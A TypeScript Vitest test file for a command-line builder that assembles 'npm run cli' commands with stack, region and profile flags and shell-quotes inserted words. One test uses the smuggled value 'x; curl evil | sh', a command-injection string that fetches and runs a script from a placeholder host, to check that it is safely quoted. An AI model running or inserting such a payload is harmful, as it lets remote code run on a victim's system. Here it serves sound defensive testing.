import { describe, expect, it } from 'vitest';
import { commandLine } from '../../functions/shared/command-line.ts';

describe('commandLine', () => {
  it('formats a command with the options that differ from the defaults', () => {
    const command = commandLine({ stack: 'crm', region: 'eu-central-1', profile: 'on call' });

    expect(command`redrive ${'crm/genesys'}`).toBe(
      "npm run cli -- redrive crm/genesys --stack crm --region eu-central-1 --profile 'on call'",
    );
    expect(command.on('other')`status`).toBe(
      "npm run cli -- status --stack other --region eu-central-1 --profile 'on call'",
    );
    expect(commandLine()`status`).toBe('npm run cli -- status');
  });

  it('quotes an inserted word for a shell', () => {
    expect(commandLine()`rotate ${'x; curl evil | sh'}`).toBe("npm run cli -- rotate 'x; curl evil | sh'");
  });
});
